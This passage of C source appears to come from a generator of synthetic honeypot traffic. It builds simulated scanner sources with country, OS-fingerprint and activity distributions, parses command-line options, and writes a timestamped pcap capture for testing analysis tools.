	for (size_t c = 0; c < ncc; c++) {
		ccw[c] = 0;
		for (size_t j = 0; j < sizeof cc_weights / sizeof *cc_weights; j++)
			if (cc_pack(cc_weights[j].cc) == ccs[c])
				ccw[c] = cc_weights[j].pct;
		if (ccw[c] == 0)
			unlisted++;
	}
	for (size_t c = 0; c < ncc; c++) {
		if (ccw[c] == 0)
			ccw[c] = REST_SHARE / (double)unlisted;
		ccw[c] += c ? ccw[c - 1] : 0;
	}
	struct hashset hs;
	hs.mask = 1;
	while (hs.mask < g->nsrc * 2u)
		hs.mask <<= 1;
	hs.v = xcalloc(hs.mask, sizeof *hs.v);
	hs.mask--;
	g->src = xcalloc(g->nsrc, sizeof *g->src);
	for (uint32_t i = 0; i < g->nsrc; i++) {
		struct source *s = &g->src[i];
		uint32_t ip = 0;
		size_t ci = 0;
		for (int tries = 0; tries < 1000; tries++) {
			ci = pick_cdf(&r, ccw, ncc);
			uint16_t cc = ccs[ci];
			size_t a = first[ci], b = first[ci + 1];
			const struct range4 *rg = &db->r4[a + pick_cdf(&r, rcdf + a, b - a)];
			ip = rg->start + rbelow(&r, rg->count);
			uint8_t last = (uint8_t)ip;
			if (last == 0 || last == 255 || in_honeynet(g, ip) || !hs_insert(&hs, ip)) {
				ip = 0;
				continue;
			}
			s->cc = cc;
			break;
		}
		if (!ip)
			die("address ranges too small for %u distinct sources", g->nsrc);
		s->ip = ip;
		s->os = pick_os(&r);
		s->ttl = (uint8_t)(os_tab[s->os].ittl - rrange(&r, 6, 24));
		/* nmap always advertises 1460, and p0f's nmap sig requires it */
		s->mss = os_tab[s->os].kind == OS_NMAP ? 1460 : pick_mss(&r);
		s->ipid = (uint16_t)rnext(&r);
		s->tsbase = (uint32_t)rnext(&r);
		s->sport = 0;
	}
	free(hs.v);
	free(ccs); free(first); free(ccw); free(rcdf);

	/* activity by rank: Zipf, so a few sources send much of the traffic */
	g->zipf = xcalloc(g->nsrc, sizeof *g->zipf);
	double acc = 0;
	for (uint32_t i = 0; i < g->nsrc; i++) {
		acc += pow((double)(i + 1), -zipf_s);
		g->zipf[i] = acc;
	}
	for (int p = 0; p < 5; p++)
		g->by_pref[p] = xcalloc(g->nsrc, sizeof **g->by_pref);
	for (uint32_t i = 0; i < g->nsrc; i++) {
		uint8_t os = g->src[i].os;
		int p = -1;
		if (os == OSI_WINXP || os == OSI_WIN7 || os == OSI_WIN10)
			p = PF_WIN;
		else if (os == OSI_MIRAI)
			p = PF_MIRAI;
		else if (os == OSI_MASSCAN)
			p = PF_MASSCAN;
		else if (os == OSI_NMAP)
			p = PF_NMAP;
		if (p >= 0)
			g->by_pref[p][g->n_pref[p]++] = i;
	}

	/* a small IPv6 population from the v6 delegations */
	g->nsrc6 = g->nsrc / 100 + 1;
	g->src6 = xcalloc(g->nsrc6, sizeof *g->src6);
	for (uint32_t i = 0; i < g->nsrc6; i++) {
		struct source6 *s = &g->src6[i];
		const struct range6 *rg = &db->r6[rbelow(&r, (uint32_t)db->n6)];
		fill_random(&r, s->ip, 16);
		for (unsigned b = 0; b < 16; b++) {
			unsigned bits = rg->plen > b * 8 ? rg->plen - b * 8 : 0;
			uint8_t m = bits >= 8 ? 0xff : (uint8_t)(0xff00 >> bits);
			s->ip[b] = (uint8_t)((rg->pfx[b] & m) | (s->ip[b] & ~m));
		}
		s->cc = rg->cc;
		do
			s->os = pick_os(&r);
		while (os_tab[s->os].kind != OS_STACK);
		s->ttl = (uint8_t)(os_tab[s->os].ittl - rrange(&r, 6, 24));
	}
}

static void write_sources(const struct gen *g, const char *path)
{
	FILE *f = fopen(path, "w");
	if (!f)
		die("cannot write %s: %s", path, strerror(errno));
	fprintf(f, "# rank\taddress\tcc\tos\tp0f_label\tttl\tmss\n");
	char a[INET6_ADDRSTRLEN];
	for (uint32_t i = 0; i < g->nsrc; i++) {
		const struct source *s = &g->src[i];
		fprintf(f, "%u\t%s\t%c%c\t%s\t%s\t%u\t%u\n", i + 1, ip4str(s->ip, a), s->cc >> 8, s->cc & 255,
			os_tab[s->os].name, os_tab[s->os].p0f[0] ? os_tab[s->os].p0f : "???", s->ttl, s->mss);
	}
	for (uint32_t i = 0; i < g->nsrc6; i++) {
		const struct source6 *s = &g->src6[i];
		inet_ntop(AF_INET6, s->ip, a, sizeof a);
		fprintf(f, "v6\t%s\t%c%c\t%s\t%s\t%u\t%u\n", a, s->cc >> 8, s->cc & 255, os_tab[s->os].name,
			os_tab[s->os].p0f[0] ? os_tab[s->os].p0f : "???", s->ttl, 1440);
	}
	if (fclose(f) != 0)
		die("write error on %s", path);
}

static void usage(FILE *f)
{
	fprintf(f,
		"usage: " PROG " [options]\n"
		"  --packets N        packets to write (default 10000000)\n"
		"  --seed S           PRNG seed (default 1); same seed+options -> same bytes\n"
		"  --day YYYY-MM-DD   UTC day covered (default 2026-11-01)\n"
		"  --honeynet CIDR    honeypot prefix, repeatable (default 192.0.2.0/24,\n"
		"                     198.51.100.0/24, 203.0.113.0/24); IPv6 prefixes receive the v6 packets\n"
		"  --sources N        distinct IPv4 attacker addresses (default 200000)\n"
		"  --rir PATH         RIR delegated file or directory of delegated-* files,\n"
		"                     repeatable (default $VIGIA_TESTDATA/rir, else a built-in table)\n"
		"  --replies PCT      share of sensor replies, source inside the honeynet (default 2)\n"
		"  --zipf S           exponent of source activity (default 0.9)\n"
		"  --out FILE|-       output file (default -, stdout)\n"
		"  --ns               nanosecond timestamps (magic a1b23c4d)\n"
		"  --linktype T       eth (default), raw or sll\n"
		"  --sources-out FILE write rank, address, country, OS and expected p0f label per source\n"
		"  --quiet            no summary on stderr\n");
}

int main(int argc, char **argv)
{
	uint64_t npk = 10000000, seed = 1;
	int64_t day = 0;
	const char *out = "-", *srcout = NULL;
	const char *rir[16];
	int nrir = 0;
	double zipf_s = 0.9, replies = 2.0;
	bool quiet = false;
	struct gen *g = xcalloc(1, sizeof *g);
	g->nsrc = 200000;
	g->o.linktype = LT_ETH;
	parse_day("2026-11-01", &day);

	enum { O_PACKETS = 256, O_SEED, O_DAY, O_HONEYNET, O_SOURCES, O_OUT, O_NS, O_LT, O_RIR,
	       O_REPLIES, O_ZIPF, O_SRCOUT, O_QUIET, O_HELP };
	static const struct option lo[] = {
		{ "packets", required_argument, 0, O_PACKETS }, { "seed", required_argument, 0, O_SEED },
		{ "day", required_argument, 0, O_DAY }, { "honeynet", required_argument, 0, O_HONEYNET },
		{ "sources", required_argument, 0, O_SOURCES }, { "out", required_argument, 0, O_OUT },
		{ "ns", no_argument, 0, O_NS }, { "linktype", required_argument, 0, O_LT },
		{ "rir", required_argument, 0, O_RIR }, { "replies", required_argument, 0, O_REPLIES },
		{ "zipf", required_argument, 0, O_ZIPF }, { "sources-out", required_argument, 0, O_SRCOUT },
		{ "quiet", no_argument, 0, O_QUIET }, { "help", no_argument, 0, O_HELP }, { 0, 0, 0, 0 },
	};
	int c;
	while ((c = getopt_long(argc, argv, "", lo, NULL)) != -1) {
		char *end = NULL;
		switch (c) {
		case O_PACKETS:
			npk = strtoull(optarg, &end, 10);
			if (*end || npk == 0 || npk > 4000000000ULL)
				die("--packets wants 1..4000000000, got '%s'", optarg);
			break;
		case O_SEED:
			seed = strtoull(optarg, &end, 0);
			if (*end)
				die("--seed wants an integer, got '%s'", optarg);
			break;
		case O_DAY:
			if (!parse_day(optarg, &day))
				die("--day wants YYYY-MM-DD between 1970 and 2105, got '%s'", optarg);
			break;
		case O_HONEYNET:
			if (!parse_cidr(optarg, g))
				die("--honeynet wants an IPv4 CIDR (/8../32) or IPv6 CIDR, got '%s'", optarg);
			break;
		case O_SOURCES: {
			unsigned long v = strtoul(optarg, &end, 10);
			if (*end || v < 1 || v > 5000000)
				die("--sources wants 1..5000000, got '%s'", optarg);
			g->nsrc = (uint32_t)v;
			break;
		}
		case O_OUT: out = optarg; break;
		case O_NS: g->o.ns = true; break;
		case O_LT:
			if (!strcmp(optarg, "eth"))
				g->o.linktype = LT_ETH;
			else if (!strcmp(optarg, "raw"))
				g->o.linktype = LT_RAW;
			else if (!strcmp(optarg, "sll"))
				g->o.linktype = LT_SLL;
			else
				die("--linktype wants eth, raw or sll, got '%s'", optarg);
			break;
		case O_RIR:
			if (nrir == 16)
				die("at most 16 --rir options");
			rir[nrir++] = optarg;
			break;
		case O_REPLIES:
			replies = strtod(optarg, &end);
			if (*end || replies < 0 || replies > 50)
				die("--replies wants a percentage 0..50, got '%s'", optarg);
			break;
		case O_ZIPF:
			zipf_s = strtod(optarg, &end);
			if (*end || zipf_s < 0 || zipf_s > 3)
				die("--zipf wants 0..3, got '%s'", optarg);
			break;
		case O_SRCOUT: srcout = optarg; break;
		case O_QUIET: quiet = true; break;
		case O_HELP: usage(stdout); return 0;
		default: usage(stderr); return 2;
		}
	}
	if (optind < argc) {
		usage(stderr);
		return 2;
	}
	if (!g->nhn4) {
		parse_cidr("192.0.2.0/24", g);
		parse_cidr("198.51.100.0/24", g);
		parse_cidr("203.0.113.0/24", g);
	}
	for (size_t i = 0; i < g->nhn4; i++)
		g->hn4_total += g->hn4[i].size;
	g->reply_share = replies / 100.0;

	struct timespec t0, t1;
	clock_gettime(CLOCK_MONOTONIC, &t0);

	struct addrdb db = { 0 };
	char envpath[4096];
	const char *td = getenv("VIGIA_TESTDATA");
	if (nrir) {
		for (int i = 0; i < nrir; i++)
			db_load_path(&db, rir[i]);
		db.origin = "--rir";
	} else if (td && *td) {
		snprintf(envpath, sizeof envpath, "%s/rir", td);
		db_load_path(&db, envpath);
		db.origin = envpath;
	}
	db_drop_overlaps(&db);
	if (db.n4 == 0) {
		for (size_t i = 0; i < sizeof builtin4 / sizeof *builtin4; i++) {
			struct in_addr a;
			inet_pton(AF_INET, builtin4[i].start, &a);
			db_add4(&db, cc_pack(builtin4[i].cc), ntohl(a.s_addr), builtin4[i].count);
		}
		db.origin = "built-in table";
	}
	if (db.n6 == 0) {
		for (size_t i = 0; i < sizeof builtin6 / sizeof *builtin6; i++) {
			uint8_t a[16];
			inet_pton(AF_INET6, builtin6[i].pfx, a);
			db_add6(&db, cc_pack(builtin6[i].cc), a, builtin6[i].plen);
		}
	}
	build_sources(g, &db, seed, zipf_s);
	if (srcout)
		write_sources(g, srcout);

	for (size_t i = 0; i < N_OS; i++)
		os_build_opts(&os_tab[i], &g->osopt[i]);
	double acc = 0;
	for (size_t i = 0; i < N_RECIPES; i++) {
		acc += recipes[i].share / recipes[i].mean_len;
		g->recipe_cdf[i] = acc;
	}
	/* concurrent sessions: enough to interleave flows, few enough that a
	 * scan's packets stay within seconds to minutes of each other */
	g->nsess = (uint32_t)(npk / 20000 < 8 ? 8 : npk / 20000 > 512 ? 512 : npk / 20000);
	g->sess = xcalloc(g->nsess, sizeof *g->sess);
	rng_seed(&g->rt, seed, 3);

	uint32_t *counts = day_counts(seed, npk);

	struct out *o = &g->o;
	o->cap = 32u << 20;
	o->buf = xcalloc(o->cap, 1);
	if (!strcmp(out, "-")) {
		o->f = stdout;
	} else {
		o->f = fopen(out, "wb");
		if (!o->f)
			die("cannot create %s: %s", out, strerror(errno));
	}
	uint8_t *h = o->buf;
	le32(h, o->ns ? 0xa1b23c4du : 0xa1b2c3d4u);
	le16(h + 4, 2); le16(h + 6, 4);
	le32(h + 8, 0); le32(h + 12, 0);
	le32(h + 16, 65535);
	le32(h + 20, (uint32_t)o->linktype);
	o->len = 24;

	for (uint32_t s = 0; s < 86400; s++) {
		uint32_t n = counts[s];
		if (!n)
			continue;
		/* stratified jitter keeps timestamps strictly ordered */
		double step = 1e9 / n;
		for (uint32_t i = 0; i < n; i++) {
			uint64_t ns = (uint64_t)((i + runit(&g->rt)) * step);
			if (ns > 999999999)
				ns = 999999999;
			o->ts_sec = (uint32_t)(day + s);
			o->ts_frac = o->ns ? (uint32_t)ns : (uint32_t)(ns / 1000);
			g->now_ms = (uint64_t)s * 1000 + ns / 1000000;
			emit_one(g);
		}
	}
	if (g->rep.pending) /* the day ended before the reply could be sent */
		g->replies--;
	out_flush(o);
	if (o->f != stdout ? fclose(o->f) != 0 : fflush(o->f) != 0)
		die("write error on %s", out);
	clock_gettime(CLOCK_MONOTONIC, &t1);
	if (!quiet) {
		double el = (double)(t1.tv_sec - t0.tv_sec) + (double)(t1.tv_nsec - t0.tv_nsec) / 1e9;
		fprintf(stderr, PROG ": %" PRIu64 " packets (%" PRIu64 " sensor replies), %" PRIu64
			" bytes, %u sources from %s (%zu ranges), %.2f s\n",
			g->emitted, g->replies, o->bytes, g->nsrc, db.origin, db.n4, el);
	}
	free(counts);
	free(o->buf);
	free(g->sess);
	free(g->zipf);
	for (int p = 0; p < 5; p++)
		free(g->by_pref[p]);
	free(g->src);
	free(g->src6);
	free(g->hn4);
	free(g->hn6);
	free(db.r4);
	free(db.r6);
	free(g);
	return 0;
}
